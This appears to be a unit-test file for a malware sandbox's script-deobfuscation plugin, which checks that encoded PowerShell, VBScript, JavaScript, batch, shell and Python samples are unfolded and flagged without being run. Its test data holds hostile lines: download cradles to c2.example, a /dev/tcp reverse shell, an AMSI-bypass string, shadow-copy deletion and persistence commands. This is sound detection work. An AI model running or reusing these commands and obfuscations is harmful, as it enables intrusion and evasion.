"""Scripts are unfolded without being run."""

import base64
import bz2
import codecs
import gzip
import hashlib
import zlib
from pathlib import Path
from typing import Any

import pytest

from malbox.sdk import PluginSkipped
from malbox.sdk.testing import run_plugin
from services.plugins.builtin.scripts import decoding, plugin, unfolding
from services.plugins.builtin.scripts.folding import fold
from services.plugins.builtin.scripts.language import guess
from services.plugins.builtin.scripts.script_encoder import ALPHABETS, PAIRS, TABS, TURNS, plain
from tests.unit.plugins import containers, pe_files
from tests.unit.plugins.conftest import MakeSample
from tests.unit.plugins.mutations import mutations

PAYLOAD = "Invoke-WebRequest http://c2.example/a.ps1 -OutFile x"
WIDE = base64.b64encode(PAYLOAD.encode("utf-16-le")).decode()
NARROW = base64.b64encode(PAYLOAD.encode()).decode()

GZIPPED = base64.b64encode(gzip.compress(PAYLOAD.encode())).decode()
ZLIBBED = base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()


def deflated(content: bytes) -> str:
    machine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(machine.compress(content) + machine.flush()).decode()


def script_encoded(text: str) -> str:
    """The text as Microsoft's encoder writes it: the alphabets turned round."""
    pairs = {char: pair for pair, char in PAIRS.items()}
    encoded, turn = "", 0
    for char in text:
        alphabet = TURNS[turn % len(TURNS)]
        of_tab = TABS[alphabet] == ord(char)
        at = ALPHABETS[alphabet].find(char.encode("latin-1"))
        encoded += pairs.get(char) or ("\t" if of_tab else chr(at + 0x20) if at >= 0 else char)
        turn += ord(char) < 0x80
    length, total = (base64.b64encode(n.to_bytes(4, "little")).decode() for n in (len(text), sum(map(ord, text))))
    return f"#@~^{length}{encoded}{total}^#~@"


def read(sample: Path, scratch: Path, name: str = "sample") -> Any:
    return run_plugin(plugin.run, sample, scratch=scratch, sample_name=name).json("scripts")


def traits(said: Any) -> set[str]:
    return {one["name"] for one in said["traits"]}


LAYERED: dict[str, tuple[str, str, str, str]] = {
    "PowerShell, -EncodedCommand": ("a.ps1", f"powershell -nop -w hidden -enc {WIDE}", PAYLOAD, "base64"),
    "PowerShell, base64 to a string": (
        "a.ps1",
        f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{NARROW}')))",
        PAYLOAD,
        "base64",
    ),
    "PowerShell, gzip": (
        "a.ps1",
        f"$s=New-Object IO.Compression.GzipStream([Convert]::FromBase64String('{GZIPPED}'))",
        PAYLOAD,
        "base64, gzip",
    ),
    "PowerShell, deflate": (
        "a.ps1",
        f"$s=New-Object IO.Compression.DeflateStream([Convert]::FromBase64String('{deflated(PAYLOAD.encode())}'))",
        PAYLOAD,
        "base64, deflate",
    ),
    "PowerShell, xor": (
        "a.ps1",
        f"$k=({','.join(str(c ^ 35) for c in PAYLOAD.encode())}) | % {{[char]($_ -bxor 35)}}",
        PAYLOAD,
        "character codes, xor 35",
    ),
    "PowerShell, base64 in pieces": (
        "a.ps1",
        f"$x='{NARROW[:20]}'+'{NARROW[20:40]}'+'{NARROW[40:]}'",
        PAYLOAD,
        "base64",
    ),
    "JavaScript, atob": ("a.js", f"var x = eval(atob('{NARROW}'));", PAYLOAD, "base64"),
    "JavaScript, escapes": (
        "a.js",
        "var x = unescape('" + "".join(f"%{byte:02x}" for byte in PAYLOAD.encode()) + "');",
        PAYLOAD,
        "hexadecimal",
    ),
    "JavaScript, Script Encoder": (
        "a.jse",
        script_encoded(f'var a = "<\u00e9\t@>";\r\nrun("{PAYLOAD}");'),
        PAYLOAD,
        "Microsoft Script Encoder",
    ),
    "VBScript, Script Encoder": (
        "a.vbe",
        script_encoded(f'CreateObject("WScript.Shell").Run "{PAYLOAD}"'),
        PAYLOAD,
        "Microsoft Script Encoder",
    ),
    "VBScript, base64": ("a.vbs", f'Set x = CreateObject("a")\r\nx.text = "{NARROW}"', PAYLOAD, "base64"),
    "VBScript, base64 in pieces": (
        "a.vbs",
        f'x = "{NARROW[:20]}" & "{NARROW[20:40]}" & _\r\n  "{NARROW[40:]}"',
        PAYLOAD,
        "base64",
    ),
    "VBScript, codes": (
        "a.vbs",
        "Execute(" + " & ".join(f"Chr({byte})" for byte in PAYLOAD.encode()) + ")",
        PAYLOAD,
        "constant expressions",
    ),
    "batch, -EncodedCommand": (
        "a.bat",
        f"@echo off\r\nset p=power\r\n%p%shell -enc {WIDE}\r\n",
        PAYLOAD,
        "base64",
    ),
    "batch, carets and variables": (
        "a.cmd",
        f"@echo off\r\nset a={PAYLOAD[:14]}\r\nset b={PAYLOAD[14:]}\r\np^ow^ershell %a%%b%\r\n",
        PAYLOAD,
        "constant expressions",
    ),
    "shell, base64": ("a.sh", f"echo {NARROW} | base64 -d | sh", PAYLOAD, "base64"),
    "shell, hexadecimal": ("a.sh", f"echo {PAYLOAD.encode().hex()} | xxd -r -p | sh", PAYLOAD, "hexadecimal"),
    "Python, exec of base64": ("a.py", f"import base64\nexec(base64.b64decode('{NARROW}'))", PAYLOAD, "base64"),
    "Python, zlib": (
        "a.py",
        f"import zlib\nexec(zlib.decompress(base64.b64decode('{ZLIBBED}')))",
        PAYLOAD,
        "base64, zlib",
    ),
    "Python, bz2": (
        "a.py",
        f"import bz2\nexec(bz2.decompress(bytes.fromhex('{bz2.compress(PAYLOAD.encode()).hex()}')))",
        PAYLOAD,
        "hexadecimal, bzip2",
    ),
    "Python, rot13": (
        "a.py",
        f"import codecs\nexec(codecs.decode('{codecs.encode(PAYLOAD, 'rot13')}', 'rot13'))",
        PAYLOAD,
        "rot13",
    ),
}


@pytest.mark.parametrize("name", LAYERED)
def test_what_is_encoded_comes_out_with_how(name: str, make_sample: MakeSample, tmp_path: Path) -> None:
    """The text behind each encoding is a layer that says what decoded it, and its URL is an indicator."""
    file, script, inside, by = LAYERED[name]
    said = read(make_sample(script.encode()), tmp_path, file)
    found = [layer["decoded_by"] for layer in said["layers"] if inside in layer["text"]]
    assert by in found
    assert "c2.example" in {one["value"] for one in said["indicators"]}
    assert "script_downloads" in traits(said)


@pytest.mark.parametrize(
    ("language", "script", "folded"),
    [
        ("powershell", "i`ex ('a'+'b'+\"c\")", "iex 'abc'"),
        ("powershell", "&('{1}{0}' -f 'ex','i')", "&'iex'"),
        ("powershell", "[char]105+[char]0x65+'x'", "'iex'"),
        ("powershell", "([char[]](105,101,120) -join '')", "'iex'"),
        ("powershell", "-join ('i','e','x')", "'iex'"),
        ("powershell", "('iQx').Replace('Q','e')", "'iex'"),
        ("powershell", "'iQx' -creplace 'Q','e'", "'iex'"),
        ("powershell", "-join 'xei'[-1..-3]", "'iex'"),
        ("javascript", "String.fromCharCode(101,118,0x61,108)", "'eval'"),
        ("javascript", "'ev'+'al'", "'eval'"),
        ("javascript", '"\\x65val"', '"eval"'),
        ("javascript", "unescape('%65val')", "'eval'"),
        ("javascript", "'lave'.split('').reverse().join('')", "'eval'"),
        ("javascript", "['ev','al'].join('')", "'eval'"),
        ("vbscript", 'Chr(82) & Chr(&H75) & "n"', "'Run'"),
        ("vbscript", 'StrReverse("nuR")', "'Run'"),
        ("vbscript", 'Replace("RQn", "Q", "u")', "'Run'"),
        ("batch", "p^ow^ershell", "powershell"),
        ("batch", "set a=powershell\r\n%a% x %a:~0,5%", "set a=powershell\r\npowershell x power"),
        ("batch", "set a=xyz\n%a:~-2,1%", "set a=xyz\ny"),
        ("shell", "a=cu;b=rl; $a${b} x", "a=cu;b=rl; curl x"),
        ("shell", "printf '\\x63\\x75rl'", "printf 'curl'"),
        ("shell", "printf '\\143url'", "printf 'curl'"),
        ("shell", "c''url w\\get", "curl wget"),
        ("python", "chr(101)+'val'", "'eval'"),
        ("python", "'lave'[::-1]", "'eval'"),
        ("python", "''.join(['ev', 'al'])", "'eval'"),
    ],
)
def test_constant_expressions_are_written_out(language: str, script: str, folded: str) -> None:
    """What every part of is a constant stands for one text."""
    assert fold(script, language) == folded


@pytest.mark.parametrize(
    ("name", "script", "trait"),
    [
        ("a.bat", f"powershell -nop -e {WIDE}", "script_encoded_command"),
        ("a.ps1", f"iex ([Convert]::FromBase64String('{NARROW}'))", "script_runs_decoded"),
        ("a.js", "var a = eval(unescape('%61'));", "script_runs_decoded"),
        ("a.vbs", "Execute(Chr(65) & StrReverse(x))", "script_runs_decoded"),
        ("a.sh", "echo eA== | base64 -d | bash", "script_runs_decoded"),
        ("a.py", "exec(__import__('zlib').decompress(x))", "script_runs_decoded"),
        ("a.ps1", "$c.DownloadString('http://c2.example')", "script_downloads"),
        ("a.bat", "certutil -f -urlcache http://c2.example x", "script_downloads"),
        ("a.ps1", "powershell -WindowStyle Hidden", "script_hidden_window"),
        ("a.vbs", 'CreateObject("WScript.Shell").Run "cmd", 0', "script_hidden_window"),
        ("a.ps1", "[Reflection.Assembly]::Load($b)", "script_in_memory"),
        ("a.ps1", "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils')", "script_impairs_defences"),
        ("a.bat", r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /d x", "script_persists_at_logon"),
        ("a.bat", "schtasks /create /tn x /tr y", "script_persists_by_task"),
        ("a.ps1", "New-Service -Name x -BinaryPathName y", "script_persists_by_service"),
        ("a.sh", "echo x >> /etc/cron.d/x", "script_persists_by_cron"),
        ("a.sh", "echo x >> ~/.bashrc", "script_persists_by_shell"),
        ("a.sh", "systemctl enable x", "script_persists_by_systemd"),
        ("a.bat", "vssa^dmin delete shadows /all", "script_removes_backups"),
        ("a.sh", "bash -i >& /dev/tcp/192.0.2.1/4242 0>&1", "script_reverse_shell"),
        ("a.py", "s=socket.socket()\nos.dup2(s.fileno(),0)\nsubprocess.call('/bin/sh')", "script_reverse_shell"),
    ],
)
def test_what_a_script_would_do_is_a_trait(
    name: str, script: str, trait: str, make_sample: MakeSample, tmp_path: Path
) -> None:
    """Also where it shows only after folding; the detail says in which layer."""
    said = read(make_sample(script.encode()), tmp_path, name)
    assert trait in traits(said)


QUIET: dict[str, str] = {
    "a.ps1": "Get-ChildItem C:\\ | Sort-Object Length\n$total = 0\nWrite-Output $total",
    "a.js": "var total = 0;\nfunction add(a, b) { return a + b; }\nconsole.log(add(1, 2));",
    "a.vbs": 'Dim total\ntotal = 1\nMsgBox "Hello"',
    "a.bat": "@echo off\nset name=World\necho Hello %name%\ncopy a.txt b.txt",
    "a.sh": '#!/bin/sh\nset -e\nfor f in *.txt; do wc -l "$f"; done\n',
    "a.py": "import sys\n\ndef main():\n    print(len(sys.argv))\n\nmain()\n",
}


@pytest.mark.parametrize("name", QUIET)
def test_an_ordinary_script_has_no_trait(name: str, make_sample: MakeSample, tmp_path: Path) -> None:
    """Control of the traits."""
    said = read(make_sample(QUIET[name].encode()), tmp_path, name)
    assert (said["traits"], said["problems"]) == ([], [])


@pytest.mark.parametrize(
    ("language", "script"),
    [
        ("powershell", QUIET["a.ps1"]),
        ("javascript", QUIET["a.js"]),
        ("vbscript", 'On Error Resume Next\nSet x = CreateObject("WScript.Shell")'),
        ("batch", QUIET["a.bat"]),
        ("shell", QUIET["a.sh"]),
        ("python", QUIET["a.py"]),
        (None, "Dear Ann,\n\nthank you for the flowers.\n"),
        (None, "<html><script>var x = 1; function f() {}</script></html>"),
    ],
)
def test_the_language_is_seen_without_a_name(language: str | None, script: str) -> None:
    """And a letter is no script."""
    assert guess(script) == language


def test_a_script_of_wide_characters_is_read(make_sample: MakeSample, tmp_path: Path) -> None:
    """With a mark, as PowerShell writes it, and without."""
    script = f"powershell -enc {WIDE}"
    for content in (script.encode("utf-16"), script.encode("utf-16-le")):
        assert "script_encoded_command" in traits(read(make_sample(content), tmp_path, "a.ps1"))


def test_layers_in_layers_are_a_trait(make_sample: MakeSample, tmp_path: Path) -> None:
    """Each layer says out of which it came."""
    script = f"powershell -enc {WIDE}"
    for _ in range(3):
        script = f"powershell -enc {base64.b64encode(script.encode('utf-16-le')).decode()}"
    said = read(make_sample(script.encode()), tmp_path, "a.ps1")
    assert [layer["of"] for layer in said["layers"]] == [0, 1, 2, 3]
    assert "script_layers" in traits(said)


@pytest.mark.promise("P38")
@pytest.mark.parametrize("size", [30, 60])
def test_layers_without_end_are_cut(size: int, make_sample: MakeSample, tmp_path: Path) -> None:
    """Depth and number are bounded, and the result says that there is more."""
    script = PAYLOAD
    for number in range(size):
        script = f"iex '{base64.b64encode(zlib.compress(script.encode(), 9)).decode()}' # {number}"
    said = read(make_sample(script.encode()), tmp_path, "a.ps1")
    assert len(said["layers"]) < unfolding.LAYERS_MAX
    assert any("deep" in words for words in said["problems"])


@pytest.mark.promise("P38")
def test_what_looks_encoded_and_is_not_decoded_is_counted(make_sample: MakeSample, tmp_path: Path) -> None:
    """The longest pieces are decoded, among them the one that hides something; of the others it says how many."""
    names = (number.to_bytes(2, "big") for number in range(6000))
    words = [base64.b64encode(hashlib.sha256(name).digest()[:15]).decode() for name in names]
    hidden = base64.b64encode(PAYLOAD.encode()).decode()
    said = read(make_sample("\n".join(f"$a = '{one}'" for one in [*words, hidden]).encode()), tmp_path, "a.ps1")
    assert PAYLOAD in {layer["text"] for layer in said["layers"]}
    passed = len(words) + 1 - decoding.CANDIDATES_MAX
    assert f"layer 0: {passed} shorter pieces like base64 were not decoded" in said["problems"]
    assert said["is_truncated"]


@pytest.mark.promise("P38")
def test_a_script_of_too_many_layers_says_where_it_was_left(
    make_sample: MakeSample, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With how many layers there are, and of how many characters."""
    monkeypatch.setattr(unfolding, "LAYERS_MAX", 3)
    pieces = [base64.b64encode(f"Write-Host 'number {number}'".encode()).decode() for number in range(5)]
    said = read(make_sample("\n".join(f"iex '{one}'" for one in pieces).encode()), tmp_path, "a.ps1")
    assert any(words.startswith("3 layers of ") for words in said["problems"])
    assert said["is_truncated"]


@pytest.mark.promise("P38")
def test_a_bomb_in_a_script_is_cut(make_sample: MakeSample, tmp_path: Path) -> None:
    """What unpacks to eight megabytes and more is read up to there, and a second one no further."""
    bombs = (base64.b64encode(gzip.compress(letter * 20_000_000, 1)).decode() for letter in (b"a", b"b", b"c", b"d"))
    said = read(make_sample("\n".join(f"$x = '{bomb}'" for bomb in bombs).encode()), tmp_path, "a.ps1")
    assert all(layer["size_chars"] <= 8 * 1024 * 1024 for layer in said["layers"])
    assert said["is_truncated"]
    assert len(str(said)) < 400_000


@pytest.mark.promise("P38")
@pytest.mark.parametrize(
    "script",
    [
        "$a = " + "'x'+" * 30_000,
        "'" * 60_000,
        "(" * 60_000,
        "set a=%a%%a%\n" * 5_000,
        "a=$a$a;" * 5_000,
        "1," * 80_000,
        "A" * 300_000,
        "\\x41" * 80_000,
        "[char]" * 30_000,
        "-f " * 30_000,
        "% " * 80_000,
        "exec(" * 30_000,
    ],
)
@pytest.mark.parametrize("name", ["a.ps1", "a.js", "a.vbs", "a.bat", "a.sh", "a.py"])
def test_no_text_keeps_the_patterns_busy(name: str, script: str, make_sample: MakeSample, tmp_path: Path) -> None:
    """Repetition that would make a careless pattern try every split is read within the processor time."""
    said = read(make_sample(script.encode()), tmp_path, name)
    assert not any("processor time" in words for words in said["problems"])


def test_binaries_and_letters_are_skipped(make_sample: MakeSample, tmp_path: Path) -> None:
    """Not an error: there is nothing to do."""
    for content in (b"\x7fELF\0\0\0", b"Dear Ann,\n", b"", bytes(range(128, 256)) * 10):
        with pytest.raises(PluginSkipped):
            read(make_sample(content), tmp_path)


@pytest.mark.parametrize("name", LAYERED)
def test_a_damaged_script_is_read_as_far_as_it_goes(name: str, make_sample: MakeSample, tmp_path: Path) -> None:
    """Cut and flipped in many places: bounded output, never an error."""
    file, script, _, _ = LAYERED[name]
    for damaged in mutations(script.encode(), 200, name):
        try:
            assert len(read(make_sample(damaged), tmp_path, file)["layers"]) < unfolding.LAYERS_MAX
        except PluginSkipped:
            continue


HELLO = "#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@"
"""A block that is public, of another encoder than the one above; its length and its sum say what has to come out."""


def test_a_block_of_microsofts_own_encoder_is_decoded() -> None:
    """Every character is right where the sum of all is the one that the block states."""
    text = plain(HELLO[12:-12])
    assert text == 'MsgBox "Hello"'
    assert len(text) == int.from_bytes(base64.b64decode(HELLO[4:12]), "little")
    assert sum(map(ord, text)) == int.from_bytes(base64.b64decode(HELLO[-12:-4]), "little")


def test_an_encoded_script_is_known_without_its_name(make_sample: MakeSample, tmp_path: Path) -> None:
    """As it comes out of another layer or a page; a block that does not end is none."""
    assert [one["text"] for one in read(make_sample(HELLO.encode()), tmp_path)["layers"]] == ['MsgBox "Hello"']
    assert read(make_sample(HELLO[:-1].encode()), tmp_path)["layers"] == []


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_script_that_is_not_all_latin_is_read_in_utf_16(
    encoding: str, make_sample: MakeSample, tmp_path: Path
) -> None:
    """With and without a mark, both ways round, as `identity` knows it; and inside of another."""
    comment = "# \u043f\u0440\u0438\u0432\u0435\u0442\r\n"
    script = f"{comment}$a = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{NARROW}'))\r\niex $a\r\n"
    said = read(make_sample(script.encode(encoding)), tmp_path, "a.ps1")
    assert PAYLOAD in [one["text"] for one in said["layers"]]
    outer = f"powershell -enc {base64.b64encode(script.encode(encoding)).decode()}"
    said = read(make_sample(outer.encode()), tmp_path, "b.ps1")
    assert PAYLOAD in [one["text"] for one in said["layers"]]


@pytest.mark.promise("P38")
def test_blocks_that_never_end_are_searched_once(make_sample: MakeSample, tmp_path: Path) -> None:
    """A megabyte of beginnings costs no more than to read it."""
    said = read(make_sample(b"#@~^AAAAAA==" * 80_000), tmp_path, "a.vbe")
    assert (said["layers"], said["problems"]) == ([], [])


PROGRAM = pe_files.Portable().build()


@pytest.mark.parametrize(
    ("name", "script", "by"),
    [
        ("a.ps1", f"$b = [Convert]::FromBase64String('{base64.b64encode(PROGRAM).decode()}')", "base64"),
        (
            "a.vbs",
            f'x = "{base64.b64encode(PROGRAM[:300]).decode()}" & "{base64.b64encode(PROGRAM[300:]).decode()}"',
            "base64",
        ),
        ("a.ps1", f"$b = '{base64.b64encode(gzip.compress(PROGRAM)).decode()}'", "base64, gzip"),
        ("a.ps1", f"[byte[]] $b = {','.join(map(str, PROGRAM))}", "character codes"),
        ("a.ps1", f"$b = '{bytes(byte ^ 35 for byte in PROGRAM).hex()}'; $b -bxor 35", "hexadecimal, xor 35"),
    ],
    ids=["base64", "base64 in pieces", "gzip", "numbers", "xor"],
)
def test_a_program_that_a_script_decodes_comes_out(
    name: str, script: str, by: str, make_sample: MakeSample, tmp_path: Path
) -> None:
    """The dropper's program is a file of its own, byte for byte, and a trait says so."""
    emitted = run_plugin(plugin.run, make_sample(script.encode()), scratch=tmp_path, sample_name=name)
    said = emitted.json("scripts")
    [child] = said["children"]
    assert emitted.content[child["name"]] == PROGRAM
    assert (child["path"].endswith(f"{by} > decoded.exe"), traits(said)) == (True, {"carries_a_program"})


@pytest.mark.parametrize(
    "content", [b"MZ" + bytes(range(256)) * 2, bytes(range(256)) * 2], ids=["two letters", "bytes"]
)
def test_other_bytes_that_a_script_decodes_are_no_child(
    content: bytes, make_sample: MakeSample, tmp_path: Path
) -> None:
    """Control: what no header speaks for may be anything."""
    said = read(make_sample(f"$b = '{base64.b64encode(content).decode()}'".encode()), tmp_path, "a.ps1")
    assert (said["children"], said["traits"]) == ([], [])


def test_an_archive_that_a_script_decodes_comes_out(make_sample: MakeSample, tmp_path: Path) -> None:
    """It is opened by the task that it gets; it is no program, and no trait."""
    archive = containers.zipped({"a": b"one"})
    said = read(make_sample(f"$b = '{base64.b64encode(archive).decode()}'".encode()), tmp_path, "a.ps1")
    assert [one["path"] for one in said["children"]] == ["layer 0, base64 > decoded.zip"]
    assert said["traits"] == []


def test_a_program_that_unpacks_to_more_than_is_read_is_said_to_be_cut(
    make_sample: MakeSample, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Blown up with zeros: what came out is handed out, and the result says that it is not all."""
    monkeypatch.setattr(decoding, "DECODED_MAX_BYTES", len(PROGRAM))
    packed = base64.b64encode(gzip.compress(PROGRAM + bytes(100_000))).decode()
    said = read(make_sample(f"$b = '{packed}'".encode()), tmp_path, "a.ps1")
    assert [one["size_bytes"] for one in said["children"]] == [len(PROGRAM)]
    assert (said["is_truncated"], len(said["problems"])) == (True, 1)


def test_a_script_that_is_not_judged_to_its_end_says_so(
    make_sample: MakeSample, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What takes too long to search is not taken for harmless."""

    def endless(*_of: object) -> None:
        while True:
            pass

    monkeypatch.setattr(plugin, "judge", endless)
    monkeypatch.setattr(plugin, "JUDGING_S", 0.2)
    said = read(make_sample(b"#!/bin/sh\necho hello\n"), tmp_path)
    assert said["problems"] == ["judging ended after 0 s of processor time: traits may be missing"]
